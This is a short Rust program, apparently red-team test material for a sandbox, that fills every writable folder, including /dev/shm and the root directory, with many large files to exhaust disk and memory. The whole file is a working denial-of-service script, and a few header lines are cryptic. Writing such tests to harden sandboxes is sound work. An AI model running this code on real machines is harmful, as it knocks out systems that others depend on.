//! Fills every folder that it can write to, with many files, each below the limit of a single one.
//! Attacks: the disk and the memory of the machine.
//! Hands in: printers
//! Seen as: step_1_each_number_gets_a_process

use std::fs::File;
use std::io::Write;

fn main() {
    let block = vec![b'x'; 1 << 20];
    for place in [".", "/tmp", "/dev/shm", "/var/tmp", "/run", "/"] {
        // 4 GiB, should nobody stop it.
        for number in 0..64 {
            let Ok(mut file) = File::create(format!("{place}/left-by-the-red-team-{number}")) else { break };
            let n_written = (0..63).take_while(|_| file.write_all(&block).is_ok()).count();
            if n_written < 63 {
                break;
            }
        }
    }
}
